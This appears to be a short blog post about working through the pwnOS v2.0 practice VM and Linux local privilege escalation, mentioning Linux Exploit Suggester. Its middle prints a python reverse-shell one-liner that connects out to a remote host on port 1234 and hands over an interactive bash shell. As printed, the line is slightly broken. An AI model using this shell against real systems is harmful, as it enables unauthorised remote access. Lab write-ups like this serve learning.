PwnOS and Linux local privilege escalation

So I have been playing around with pwnOS v2.0. For spoilers, you can refer to this link. Due to my lack of attention, I did not spot the duplicate file and hence, did not get any valid root passwords, but knowing the solution, it does seem like quite a bit of a letdown.

One thing I did slightly differently was to use a python reverse shell documented in by pentestmonkey in the sqlmap –os-shell context. This worked sufficiently to give me an OOB shell.

python -c ‘import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((“”,1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);[“/bin/bash”,”-i”]);’

One tool which I had also encountered was Linux Exploit Suggester, although it seemed to have been updated about 5 months ago. Still, I’m sure it could be very useful if you have non-privileged shell access to a older, not-as-frequently-updated Linux box, and are searching for local privesc root exploits. I would also recommend this site for a list of commands you should run in order to enumerate the system after getting said shell access.

Leave a ReplyFill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Google photo

You are commenting using your Google account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photo

You are commenting using your Facebook account. Log Out/  Change )

Connecting to %s